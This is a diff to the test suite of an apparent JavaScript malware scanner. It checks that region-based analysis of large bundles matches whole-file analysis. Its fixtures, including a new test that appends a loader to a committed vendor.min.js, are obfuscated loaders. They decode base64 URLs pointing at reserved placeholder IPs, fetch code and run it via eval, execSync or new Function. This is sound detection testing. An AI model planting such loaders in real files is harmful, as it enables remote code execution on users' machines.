@@ -4,15 +4,16 @@
  * whole-file analysis. Checked on generated bundles and on the real bundles of this project's own dependencies.
  */
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { createRequire } from 'node:module';
 import path from 'node:path';
 import { parseJs, type Node } from '../src/analysis/js/parse.js';
-import { parseRegions, REGION_MIN_CHARS } from '../src/analysis/js/regions.js';
+import { parseRegions, REGIONS } from '../src/analysis/js/regions.js';
 import { JsAnalyzer, type JsFacts } from '../src/analysis/js/facts.js';
 import { analyseFile, passesPrefilter, prefilterHits } from '../src/analysis/source-index.js';
 import { loadSignatures } from '../src/signatures/load.js';
 import { DEFAULT_LIMITS } from '../src/options.js';
+import { scanFolder, tempDir } from './helpers.js';
 
 const sigs = loadSignatures();
 
@@ -52,7 +53,7 @@ describe('region analysis of large bundles', () => {
 
   it('a loader in one module of a webpack bundle: same sinks, lines and columns as the whole file', () => {
     const text = webpack(`const c=require("child_process"),u=atob("aHR0cDovLzE5Mi4wLjIuMTAvcA==");function g(){return fetch(u).then(e=>e.text())}g().then(e=>{eval(e);c.execSync(e)})`);
-    assert.ok(text.length > REGION_MIN_CHARS);
+    assert.ok(text.length > REGIONS.minChars);
     const whole = wholeFacts(text, 'dist/chunk.js');
     const { facts, count, chars } = regionFacts(text);
     assert.deepEqual(factKeys(facts), factKeys(whole));
@@ -63,7 +64,7 @@ describe('region analysis of large bundles', () => {
   it('a binding in a large function used by a small function inside it (the module scope is kept)', () => {
     const big = filler(800, 0, (k) => `k${k}:function(e,t,n)`);
     const text = `module.exports=function(){var vm=require("vm");var pad={${big}};function run(src){return vm.runInNewContext(src,{})}return run}();\n`;
-    assert.ok(text.length > REGION_MIN_CHARS);
+    assert.ok(text.length > REGIONS.minChars);
     const whole = wholeFacts(text, 'lib/bundle.js');
     assert.ok(factKeys(whole).some((k) => k.startsWith('sink vm vm.runInNewContext')), factKeys(whole).join('\n'));
     assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
@@ -74,7 +75,7 @@ describe('region analysis of large bundles', () => {
     for (let i = 0; i < 2500; i++) lines.push(`function h${i}(e){return e.map(function(t){return t+${i}}).filter(Boolean)}var v${i}=h${i}([${i},2,3]);`);
     lines.splice(1200, 0, 'var q=Buffer.from("aHR0cDovLzE5OC41MS4xMDAuNy94","base64").toString(),w=require("https");w.get(q,function(r){var d="";r.on("data",function(c){d+=c});r.on("end",function(){new Function("require",d)(require)})});');
     const text = lines.join('\n') + '\n';
-    assert.ok(text.length > REGION_MIN_CHARS);
+    assert.ok(text.length > REGIONS.minChars);
     const whole = wholeFacts(text, 'build/app.js');
     const region = regionFacts(text);
     assert.deepEqual(factKeys(region.facts), factKeys(whole));
@@ -86,7 +87,7 @@ describe('region analysis of large bundles', () => {
     for (let i = 0; i < 1800; i++) methods.push(`m${i}(e){if(e>${i})return e*2;for(var t=0;t<e;t++)this.x+=t;return this.x}`);
     methods.splice(900, 0, 'load(u){return fetch(u).then(function(r){return r.text()})}');
     const text = `class Big{${methods.join('')}}\nif(1){var z=1;eval(z)}\n`;
-    assert.ok(text.length > REGION_MIN_CHARS);
+    assert.ok(text.length > REGIONS.minChars);
     const whole = wholeFacts(text, 'dist/big.js');
     assert.deepEqual(factKeys(regionFacts(text).facts), factKeys(whole));
     assert.ok(factKeys(whole).some((k) => k.startsWith('net fetch') && k.includes('import=false')), factKeys(whole).join('\n'));
@@ -117,6 +118,33 @@ describe('region analysis of large bundles', () => {
     assert.equal(analyseFile('dist/chunk.js', obfuscated, sigs, DEFAULT_LIMITS, [], true)?.regions, undefined, 'obfuscator names');
   });
 
+  it('a scan of a repository whose committed vendor bundle hides a loader reports what the whole-file analysis reports', async () => {
+    const { dir, cleanup } = tempDir();
+    const saved = { workers: process.env.LURESCAN_WORKERS, min: REGIONS.minChars };
+    try {
+      mkdirSync(path.join(dir, 'public', 'js'), { recursive: true });
+      writeFileSync(path.join(dir, 'package.json'), '{"name":"shop-frontend","version":"1.0.0","private":true}\n');
+      // A loader appended on its own line after a minified vendor file (payload host reserved).
+      const loader = ';(function(){var u=atob("aHR0cDovLzE5OC41MS4xMDAuNzoxMjI0L2FwaS9jaGVjaw==");fetch(u).then(function(r){return r.text()}).then(function(c){new Function("require",c)(require)})})();';
+      const text = `${webpack('n.d(t,{x:()=>1})')}${loader}\n`;
+      writeFileSync(path.join(dir, 'public', 'js', 'vendor.min.js'), text);
+      assert.ok(analyseFile('public/js/vendor.min.js', text, sigs, DEFAULT_LIMITS, [], true)?.regions, 'analysed by region');
+      process.env.LURESCAN_WORKERS = '0';
+      const byRegion = await scanFolder(dir);
+      REGIONS.minChars = Infinity;
+      const whole = await scanFolder(dir);
+      assert.deepEqual(byRegion.findings, whole.findings);
+      assert.equal(byRegion.verdict, whole.verdict);
+      const rce = byRegion.findings.find((f) => f.ruleId === 'remote-code-execution');
+      assert.deepEqual([rce?.location?.file, rce?.location?.line], ['public/js/vendor.min.js', 2]);
+    } finally {
+      REGIONS.minChars = saved.min;
+      if (saved.workers === undefined) delete process.env.LURESCAN_WORKERS;
+      else process.env.LURESCAN_WORKERS = saved.workers;
+      cleanup();
+    }
+  });
+
   it('real bundles of this project’s dependencies: region facts equal whole-file facts', function () {
     this.timeout(120_000);
     const require = createRequire(import.meta.url);
@@ -133,7 +161,7 @@ describe('region analysis of large bundles', () => {
         if (!existsSync(f)) continue;
         const text = readFileSync(f, 'utf8');
         const rel = `node_modules/${c}`;
-        if (text.length < REGION_MIN_CHARS || !passesPrefilter('js', text, sigs)) continue;
+        if (text.length < REGIONS.minChars || !passesPrefilter('js', text, sigs)) continue;
         const r = parseRegions(text, prefilterHits(text, sigs, false), []);
         if (!r) continue;
         const facts = new JsAnalyzer(r.program as Node, text, sigs.source, 60_000).run(1);
